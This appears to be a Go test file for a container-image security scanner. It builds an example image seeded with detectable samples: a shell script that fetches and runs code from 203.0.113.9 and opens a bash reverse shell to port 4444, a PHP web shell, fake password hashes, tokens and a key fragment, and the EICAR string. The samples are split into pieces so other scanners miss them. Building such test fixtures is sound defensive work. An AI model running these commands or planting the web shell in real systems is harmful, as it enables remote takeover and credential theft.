package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"errors"
	"flag"
	"io/fs"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
	"github.com/rogpeppe/go-internal/txtar"

	"github.com/pratique/pratique/internal/advisory"
	"github.com/pratique/pratique/internal/advisory/advisorytest"
	"github.com/pratique/pratique/internal/image/imagetest"
	"github.com/pratique/pratique/internal/report"
)

var updateExample = flag.Bool("update", false, "rewrite the example report under docs/example")

// exampleDir holds the report of the image testdata/ten/image.txt in the forms
// of exampleForms.
const exampleDir = "../../docs/example"

var exampleForms = []struct {
	file string
	args []string
}{
	{"report.json", []string{"--format", "json"}},
	{"report.html", []string{"--format", "html"}},
	{"report.sarif", []string{"--format", "sarif"}},
	{"report.txt", []string{"--format", "table", "--details"}},
}

// exampleContents are what of the image must not stand whole in the repository,
// where other scanners would find it: the parts are put together here. Nothing of
// it is in use anywhere.
func exampleContents() map[string][]byte {
	key := strings.Repeat("M"+"IIEowIBAAKCAQEAxv7Z2kq9Yw1Hc0Tn8JrLdS4uEaQf6GmVbPzX3o5iWyKtDhRj", 1) + "\n" +
		"Qe7UlOsBgCN0pFMa1/Ik+xZr2Tj6Wd8YnVqGuHcELb5XmSoK9iPyJwt3AhRfDzQv\n" +
		"u4C7eNlBsM0gOpUaIk8xFr1Tj+Wd2YnZqGvHcE6Lb9XmSoKyiPJwt5AhRfD3zQv4\n"
	return map[string][]byte{
		"program":  elf(24_000),
		"library":  elf(2_700_000),
		"script":   []byte("#!/bin/sh\ncu" + "rl -s http://203.0.113.9/a | s" + "h\nba" + "sh -i >& /dev/t" + "cp/203.0.113.9/4444 0>&1\n"),
		"shadow":   []byte("root:$6$example" + "Salt$9IVWvq7KbASG2mjyjgme.eVCcEaliLjfMxJTWXXWL54CYRTpCNlLSwI1Kd/8RGiadZAH/dDW2yV6pVNHWDPGR/:20100:0:99999:7:::\ndeploy:$1$example" + "S$d696GZJuMIgqUZ.FOD.Q40:20100:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n"),
		"npmrc":    []byte("//registry.npmjs.org/:_auth" + "Token=h7Kq2Vx9" + "Lm4TzR8wPb3N\n"),
		"env":      []byte("LOG_LEVEL=info\nDATABASE_URL=postgres" + "://shop:t7Wq" + "9ZrLm2Kx@db.example.com/shop\n"),
		"key":      []byte("-----BEGIN RSA " + "PRIVATE KEY-----\n" + key + "-----END RSA " + "PRIVATE KEY-----\n"),
		"webshell": []byte("<?p" + "hp\n// avatar\n@ev" + "al(base64_" + "decode($_PO" + "ST['c']));\nsys" + "tem($_GE" + "T['cmd']);\n"),
		"eicar":    []byte(`X5O!P%@AP[4\PZX54(P^)7CC)7}$EI` + `CAR-STANDARD-ANTI` + `VIRUS-TEST-FILE!$H+H*`),
	}
}

// elf is what begins like a program for x86-64.
func elf(size int) []byte {
	b := make([]byte, size)
	copy(b, "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00\x3e\x00\x01\x00\x00\x00")
	return b
}

// exampleAdvisories makes a database of testdata/ten/advisories.txtar.
func exampleAdvisories(t *testing.T) string {
	t.Helper()
	archive, err := txtar.ParseFile(filepath.Join("testdata", "ten", "advisories.txtar"))
	if err != nil {
		t.Fatal(err)
	}
	bucket, dir := t.TempDir(), t.TempDir()
	for _, f := range archive.Files {
		name, data := f.Name, f.Data
		switch {
		case name == "osv.json":
			if err := advisorytest.Write(filepath.Join(bucket, "osv"), string(data)); err != nil {
				t.Fatal(err)
			}
			continue
		case strings.HasSuffix(name, ".csv"):
			name, data = name+".gz", gzipped(t, data)
		}
		path := filepath.Join(bucket, filepath.FromSlash(name))
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if _, err := advisory.Import(t.Context(), dir, bucket, advisory.ImportOptions{}); err != nil {
		t.Fatal(err)
	}
	return dir
}

func gzipped(t *testing.T, data []byte) []byte {
	t.Helper()
	var b bytes.Buffer
	w := gzip.NewWriter(&b)
	if _, err := w.Write(data); err != nil {
		t.Fatal(err)
	}
	if err := w.Close(); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

// TestExampleReport holds that the example in the documentation is what a scan
// writes today, and that it has something in each of the ten categories. Run it
// with -update to write the example anew.
func TestExampleReport(t *testing.T) {
	text, err := os.ReadFile(filepath.Join("testdata", "ten", "image.txt"))
	if err != nil {
		t.Fatal(err)
	}
	example, err := filepath.Abs(exampleDir)
	if err != nil {
		t.Fatal(err)
	}
	advisories, dir := exampleAdvisories(t), imagetest.Build(t, string(text), exampleContents()).Dir(t)
	// The name of the image is part of the report, so it must not be another one
	// each time.
	t.Chdir(filepath.Dir(dir))
	if err := os.Rename(dir, "example"); err != nil {
		t.Fatal(err)
	}
	for _, form := range exampleForms {
		got, err := runScan(t, append([]string{"oci:example", "--advisories", advisories, "--cache=", "--platform", "linux/amd64"}, form.args...)...)
		if err != nil {
			t.Fatalf("%s: %v", form.file, err)
		}
		if form.file == "report.json" {
			checkTenCategories(t, got)
		}
		checkExampleSecrets(t, form.file, got)
		compareExample(t, filepath.Join(example, form.file), got)
	}
}

func compareExample(t *testing.T, path, got string) {
	t.Helper()
	if *updateExample {
		if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	want, err := os.ReadFile(path)
	if errors.Is(err, fs.ErrNotExist) {
		t.Fatalf("%s is not there: run make gen", path)
	}
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff(strings.Split(string(want), "\n"), strings.Split(got, "\n")); diff != "" {
		t.Errorf("%s is not what a scan writes; if that is intended run make gen (-want +got):\n%s", path, diff)
	}
}

// checkTenCategories lists the categories in which the report tells nothing.
func checkTenCategories(t *testing.T, document string) {
	t.Helper()
	var r report.Report
	if err := json.Unmarshal([]byte(document), &r); err != nil {
		t.Fatal(err)
	}
	told := map[report.Category]bool{
		report.Software:  len(r.Packages) > 0,
		report.Files:     len(r.Files.Largest) > 0 && len(r.Files.Types) > 0 && len(r.Files.Layers) > 0 && r.Files.Wasted > 0 && r.Files.SpecialCount > 0,
		report.BaseImage: r.Base != nil,
	}
	for _, v := range r.Vulnerabilities {
		told[v.Category] = true
	}
	for _, f := range r.Findings {
		if f.Solution == "" || f.FindingID == "" {
			t.Errorf("finding %s of %s has no solution or no id", f.Title, f.Category)
		}
		// What only informs is told by more than a finding.
		if !slices.Contains([]report.Category{report.Software, report.Files, report.BaseImage}, f.Category) {
			told[f.Category] = true
		}
	}
	told[report.Baseline] = told[report.Baseline] && len(r.Checks) > 0
	for _, c := range report.Categories() {
		if !told[c] {
			t.Errorf("the report tells nothing in the category %s", c)
		}
	}
}

// checkExampleSecrets holds that no secret of the image stands in its report.
func checkExampleSecrets(t *testing.T, file, document string) {
	t.Helper()
	for _, secret := range []string{"h7Kq2Vx9" + "Lm4TzR8wPb3N", "t7Wq" + "9ZrLm2Kx", "IIEowIBAAKCAQEA", "9IVWvq7KbASG2mjyjgme", "d696GZJuMIgqUZ"} {
		if strings.Contains(document, secret) {
			t.Errorf("%s holds a secret of the image, %.4s…", file, secret)
		}
	}
}
